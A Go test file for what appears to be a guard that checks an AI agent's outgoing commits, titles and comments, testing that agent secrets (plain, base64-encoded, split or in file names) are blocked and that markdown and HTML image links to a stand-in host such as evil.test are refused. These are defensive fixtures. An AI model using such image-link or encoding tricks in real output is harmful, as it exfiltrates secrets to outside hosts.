package action

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/spritekit/lattice/orchestrator/lattice"
	"github.com/spritekit/lattice/spritekit/protocol"
)

const agentKey = "sk-ant-api03-Zx81Qpl7Ty2mmRk90LwEjYcVbNaQs4dFgHu6"

// propose commits files on top of the fixture's branch and makes it the one that is pushed.
func (f *fixture) propose(message string, files map[string]string) {
	f.t.Helper()
	for name, content := range files {
		path := filepath.Join(f.dir, "sprite", name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			f.t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			f.t.Fatal(err)
		}
	}
	f.git("sprite", "add", "-A")
	f.git("sprite", "commit", "-q", "--allow-empty", "-m", message)
	f.bundle()
}

// A value that the run's agent was given stops the proposal, wherever it is in it; the message names no value.
func TestKnownSecretsStopProposals(t *testing.T) {
	tests := map[string]func(f *fixture){
		"file": func(f *fixture) { f.propose("m", map[string]string{"a.py": "key = '" + agentKey + "'\n"}) },
		"base64": func(f *fixture) {
			f.propose("m", map[string]string{"a": base64.StdEncoding.EncodeToString([]byte("x:" + agentKey))})
		},
		"split":     func(f *fixture) { f.propose("m", map[string]string{"a": agentKey[:20] + "\" +\n \"" + agentKey[20:]}) },
		"binary":    func(f *fixture) { f.propose("m", map[string]string{"a": "\x00\x01" + agentKey + "\x00"}) },
		"message":   func(f *fixture) { f.propose("debug "+agentKey, nil) },
		"file name": func(f *fixture) { f.propose("m", map[string]string{agentKey + "/x": "y"}) },
		"removed again": func(f *fixture) {
			f.propose("m", map[string]string{"a": agentKey})
			f.propose("n", map[string]string{"a": "nothing\n"})
		},
		"branch": func(f *fixture) { f.params.Branch = "fix-" + agentKey },
		"title":  func(f *fixture) { f.params.Title = agentKey },
	}
	for name, prepare := range tests {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			f.opts.Secrets = func(string) map[string]string { return map[string]string{"ANTHROPIC_API_KEY": agentKey} }
			prepare(f)
			a, verdict, why, err := f.fulfiller().Inspect(t.Context(), call, f.action())
			if err != nil || verdict != lattice.Deny || !strings.HasPrefix(why, "secret_in_change: ") || !strings.Contains(why, "ANTHROPIC_API_KEY") {
				t.Fatalf("Inspect = %s %q %v, want secret_in_change", verdict, why, err)
			}
			if strings.Contains(why, agentKey) || len(a.Binding) > 0 {
				t.Errorf("the value is in %q, or the action is bound: %s", why, a.Binding)
			}
		})
	}
}

// What has the form of a credential is a warning that the approval binds, by file and line.
func TestPossibleSecretsAreWarnings(t *testing.T) {
	f := newFixture(t)
	f.opts.Secrets = func(string) map[string]string { return map[string]string{"ANTHROPIC_API_KEY": agentKey} }
	f.propose("first", map[string]string{"src/conf.py": "a = 1\nb = 2\n"})
	f.propose("second", map[string]string{"src/conf.py": "a = 1\n++ x\naws = 'AKIA" + "Z7QK3MVT2WPLBN5D'\nb = 2\n"})
	a, verdict, why, err := f.fulfiller().Inspect(t.Context(), call, f.action())
	if err != nil || verdict != lattice.Ask {
		t.Fatalf("Inspect = %s %q %v", verdict, why, err)
	}
	if want := `"warnings":["possible secret (1): src/conf.py:3 (aws-access-token)"]`; !strings.Contains(string(a.Binding), want) {
		t.Errorf("binding = %s, want %s", a.Binding, want)
	}
}

// Text that would load an image where it is shown never leaves: its address could carry anything out.
func TestImagesAreRefused(t *testing.T) {
	for text, refused := range map[string]bool{
		"see ![x](https://evil.test/?q=SECRET)": true, "![x][a]\n\n[a]: https://evil.test/": true, "![]( <http://evil.test> )": true, "![a\nb](//evil.test/x)": true,
		"<img src=https://evil.test/>": true, "<IMG\nsrc='//evil.test/'>": true, "< picture><source srcset=x>": true, "<svg><image href=x>": true, "<link rel=stylesheet href=x>": true,
		"![[a]](//evil.test/x)": true, "![a\\]](//evil.test/x)": true, "![[b](//c.test)\n](//evil.test/x)": true, "![`]`](//evil.test/x)": true, "![[a] `]` ](//evil.test/x)": true,
		"![<a title=']'>](//evil.test/x)": true, "![$]$](//evil.test/x)": true, "[a ![b](//evil.test/x)": true, "![a] b\n\n[A]: //evil.test/x": true, "![a][]\n\n> [a]: //evil.test/x": true,
		"![a\\]]\n- [a\\]]:\n  //evil.test/x": true, "[[https://evil.test/x.png]]": true, "[[a|https:\\//evil.test/x.png]]": true, "[[a|link=https&#58;//evil.test/x.png]]": true,
		"vec![1, 2] and [a](https://example.com/)": false, "`vec![[1], [2]]`, see [a](https://example.com/)": false, "![ [a](https://example.com/)": false, "![a ]\n": false,
		"[[ -f a && -d b ]]": false, "[[a page]]": false, "`vec![`\n\n[a](https://example.com/)": false, "[1]: https://example.com/": false,
		"a link: https://example.com/": false, "[a](https://example.com/)": false, "wow![1]": false, "a < b, imgs > c": false, "<imgur>": false,
	} {
		f := newFixture(t)
		f.params.Title = "t"
		a := f.action()
		raw, err := json.Marshal(map[string]any{"number": 7, "body": text})
		if err != nil {
			t.Fatal(err)
		}
		a.Name, a.Parameters = protocol.ActionPostComment, raw
		c := call
		c.Permissions = []string{"github:write"}
		_, verdict, why, err := f.fulfiller().Inspect(t.Context(), c, a)
		if err != nil || strings.HasPrefix(why, "remote_image: ") != refused || refused != (verdict == lattice.Deny) {
			t.Errorf("%q: %s %q %v", text, verdict, why, err)
		}
	}
}

// TestTextsInListsAreJudged checks that the texts in a list of issues are decoded before they are searched.
func TestTextsInListsAreJudged(t *testing.T) {
	t.Parallel()
	for body, code := range map[string]string{
		"<img src=https://evil.test/>": "remote_image", "a\n<picture>": "remote_image", "why\nfixes acme/site#7": "foreign_issue", "tab\tcloses acme/site#7": "foreign_issue",
		"plain <b>\nFixes #7": "",
	} {
		raw, err := json.Marshal(map[string]any{"document": "d", "issues": []any{map[string]any{"key": "a", "title": "t"}, map[string]any{"key": "b", "title": "t", "body": body}}})
		if err != nil {
			t.Fatal(err)
		}
		got := ""
		if no, ok := errors.AsType[*lattice.Refusal](checkTexts(raw)); ok {
			got = no.Fault.Code
		}
		if got != code {
			t.Errorf("%q: refused with %q, want %q", body, got, code)
		}
	}
}

// Text that would close an issue of another repository never leaves, in a commit or in parameters.
func TestForeignIssues(t *testing.T) {
	for text, refused := range map[string]bool{
		"Fixes acme/site#7": true, "closed: https://github.com/acme/site/issues/7": true, "RESOLVES\tacme/site#1": true,
		"fix the parser, see acme/site#7": false, "Fixes #7": false, "prefixes a/b#1": false, "closes the door": false,
	} {
		f := newFixture(t)
		f.propose("change\n\n"+text, nil)
		_, verdict, why, err := f.fulfiller().Inspect(t.Context(), call, f.action())
		if err != nil || (verdict == lattice.Deny) != refused || refused && !strings.HasPrefix(why, "foreign_issue: ") {
			t.Errorf("commit %q: %s %q %v", text, verdict, why, err)
		}
		f = newFixture(t)
		f.params.Title = text
		if _, verdict, why, _ := f.fulfiller().Inspect(t.Context(), call, f.action()); (verdict == lattice.Deny) != refused {
			t.Errorf("title %q: %s %q", text, verdict, why)
		}
	}
}
